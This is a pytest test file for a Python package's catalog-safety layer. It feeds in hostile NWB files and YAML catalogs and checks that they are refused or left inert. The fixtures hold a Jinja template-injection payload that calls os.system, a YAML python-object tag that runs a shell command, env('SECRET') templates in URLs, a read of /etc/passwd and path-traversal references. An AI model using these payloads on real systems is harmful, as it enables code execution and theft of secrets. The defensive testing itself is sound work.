"""Catalogs are safe to share (issue 12, the catalog layer): what we write is inert, writes stay
in the catalog's folder, and a received catalog is checked before it is opened."""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import intake
import numpy as np
import pytest
import yaml

import intake_nwb
from intake_nwb.catalog.safety import check_catalog
from intake_nwb.cli import main

PAYLOAD = "{{ lipsum.__globals__.os.system('touch PWNED') }}"  # run in the test's folder


def _hostile_file(path: Path) -> str:
    """An NWB file whose table group name and description are Jinja payloads (with a control
    character and text that reads as a YAML tag)."""
    from hdmf.common import DynamicTable, VectorData
    from pynwb import NWBHDF5IO, NWBFile

    payload = PAYLOAD
    nwb = NWBFile(payload, "id", dt.datetime(2024, 1, 1, tzinfo=dt.UTC))
    table = DynamicTable(name=f"t{payload}\x07 !!python\nx",
                         description=payload, columns=[
                             VectorData(name="x", description=payload, data=np.arange(3))])
    nwb.create_processing_module("misc", "m").add(table)
    with NWBHDF5IO(str(path), "w") as io:
        io.write(nwb)
    return str(path)


def test_catalogs_we_write_are_inert(tmp_path: Path, data_dir: Path,
                                     monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    marker = tmp_path / "PWNED"
    data = tmp_path / "data"
    data.mkdir()
    _hostile_file(data / f"ses{PAYLOAD}.nwb")
    shutil.copy2(data_dir / "dandi-cli/sub-anm369963_ses-20170228.nwb", data / "plain.nwb")
    path = intake_nwb.build_catalog(str(data / "*.nwb"), tmp_path / "lab" / "c.yaml",
                                    progress=False)
    assert not check_catalog(path, allow_paths=[data]).problems
    cat = intake_nwb.open_catalog(path, allow_paths=[data])
    for entry in cat:
        source = cat[entry]
        if source.describe()["container"] == "dataframe":
            source.read()
    for key in cat.files:
        for entry in cat.files[key]:
            cat.files[key][entry].describe()
    tables = [n for n in cat if cat[n].describe()["metadata"].get("table_path", "")
              .startswith("/processing/misc/t{{")]
    assert tables and cat[tables[0]].read()["x"].to_list() == [0, 1, 2]
    assert not marker.exists()
    text = path.read_text()
    assert "lipsum" not in yaml.safe_load(text)["sources"]["sessions"]["args"]["index"]


def test_a_catalogs_refs_cannot_send_writes_elsewhere(tmp_path: Path, data_dir: Path) -> None:
    lab = tmp_path / "lab"
    lab.mkdir()
    f = data_dir / "dandi-cli/sub-anm369963_ses-20170228.nwb"
    (lab / "c.yaml").write_text(yaml.safe_dump({"sources": {"units": {
        "driver": "nwb_table", "args": {"sources": [str(f)], "table_path": "/units",
                                        "refs": "{{ CATALOG_DIR }}/../../elsewhere"}}}}))
    with pytest.raises(intake_nwb.IntakeNWBError, match="outside the catalog folder"):
        intake.open_catalog(str(lab / "c.yaml")).units.read()
    assert not (tmp_path.parent / "elsewhere").exists()
    # the same entry with its references inside the folder works
    (lab / "c.yaml").write_text((lab / "c.yaml").read_text().replace("../../elsewhere", "refs"))
    assert intake.open_catalog(str(lab / "c.yaml")).units.read().height == 1
    assert list((lab / "refs").iterdir())


@pytest.mark.parametrize("hostile, finding", [
    ({"sources": {"x": {"driver": "nwb_table", "args": {
        "sources": ["http://h/{{ env('SECRET') }}.nwb"], "table_path": "/units"}}}},
     "templates"),
    ({"plugins": {"source": [{"module": "evil"}]}, "sources": {}}, "plugins"),
    ({"sources": {"x": {"driver": "csv", "args": {"urlpath": "/etc/passwd"}}}}, "driver 'csv'"),
    ({"sources": {"x": {"driver": "nwb_table", "args": {"sources": ["a.nwb"]},
                        "parameters": {"p": {"default": "{{ shell('id') }}", "type": "str"}}}}},
     "templates"),
])
def test_received_catalogs_are_checked_first(tmp_path: Path, hostile: dict, finding: str,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "received.yaml"
    path.write_text(yaml.safe_dump(hostile))
    with pytest.raises(intake_nwb.UnsafeCatalogError, match=finding):
        intake_nwb.open_catalog(path)
    assert main(["check", str(path)]) == 1
    assert finding.split()[0] in capsys.readouterr().out


def test_python_tags_are_refused(tmp_path: Path) -> None:
    path = tmp_path / "tagged.yaml"
    marker = tmp_path / "PWNED"
    path.write_text("sources: !!python/object/apply:os.system ['touch " + str(marker) + "']\n")
    with pytest.raises(intake_nwb.UnsafeCatalogError, match="not plain YAML"):
        intake_nwb.open_catalog(path)
    assert not marker.exists()


def test_index_naming_files_outside_the_folder(tmp_path: Path, data_dir: Path) -> None:
    path = intake_nwb.build_catalog(str(data_dir / "dandi-cli/*.nwb"), tmp_path / "c.yaml",
                                    progress=False)
    with pytest.raises(intake_nwb.UnsafeCatalogError, match="outside the catalog folder"):
        intake_nwb.open_catalog(path)
    report = check_catalog(path)
    assert report.local_paths and report.hosts == []
    cat = intake_nwb.open_catalog(path, allow_paths=[data_dir])
    assert cat.units.read().height == 2
    assert intake_nwb.open_catalog(path, trusted=True).units.read().height == 2


def test_intake2_catalogs_we_write_are_inert(tmp_path: Path, data_dir: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("SECRET", "leaked")
    data = tmp_path / "data"
    data.mkdir()
    _hostile_file(data / "ses{env(SECRET)}.nwb")
    shutil.copy2(data_dir / "dandi-cli/sub-anm369963_ses-20170228.nwb", data / "plain.nwb")
    path = intake_nwb.build_catalog(str(data / "*.nwb"), tmp_path / "lab" / "c.yaml",
                                    progress=False, dialect="v2",
                                    storage_options={"note": "{env(SECRET)}"})
    assert not check_catalog(path, allow_paths=[data]).problems
    for cat in (intake_nwb.open_catalog(path, allow_paths=[data]),
                intake.from_yaml_file(str(path))):
        assert cat["lab_index"].storage_options == {"note": "{env(SECRET)}"}  # not filled
        tables = [n for n in cat if cat[n].metadata.get("table_path", "")
                  .startswith("/processing/misc/t{{")]
        assert tables and cat[tables[0]].read().collect()["x"].to_list() == [0, 1, 2]
        assert "leaked" not in str(cat["sessions"].read()["_nwb_path"].to_list())
    assert not (tmp_path / "PWNED").exists()


_V2_INDEX = {"datatype": "intake_nwb.intake.readers:NWBIndex", "metadata": {},
             "user_parameters": {}, "kwargs": {"url": "{CATALOG_DIR}/index/x"}}
_V2_ENTRY = {"reader": "intake_nwb.intake.readers:NWBMetadataReader", "metadata": {},
             "output_instance": "polars:DataFrame", "user_parameters": {},
             "kwargs": {"args": ["{data(lab_index)}"]}}


@pytest.mark.parametrize("change, finding", [
    ({"entries": {"s": {**_V2_ENTRY, "reader": "intake.readers.readers:PandasCSV"}}},
     "not intake_nwb's"),
    ({"data": {"lab_index": {**_V2_INDEX, "datatype": "intake.readers.datatypes:CSV"}}},
     "not intake_nwb's"),
    ({"data": {"lab_index": {**_V2_INDEX, "kwargs": {"url": "http://h/{env(SECRET)}"}}}},
     "templates"),
    ({"entries": {"s": {**_V2_ENTRY, "kwargs": {"args": ["{func(os:getcwd)}"]}}}},
     "templates"),
    ({"user_parameters": {"p": {"cls": "intake.readers.user_parameters:SimpleUserParameter",
                                "default": "{env(SECRET)}"}}}, "user parameters"),
])
def test_received_intake2_catalogs_are_checked_first(tmp_path: Path, change: dict,
                                                     finding: str) -> None:
    doc = {"version": 2, "metadata": {}, "user_parameters": {}, "aliases": {"s": "s"},
           "data": {"lab_index": _V2_INDEX}, "entries": {"s": _V2_ENTRY}, **change}
    path = tmp_path / "received.yaml"
    path.write_text(yaml.safe_dump(doc))
    with pytest.raises(intake_nwb.UnsafeCatalogError, match=finding):
        intake_nwb.open_catalog(path)
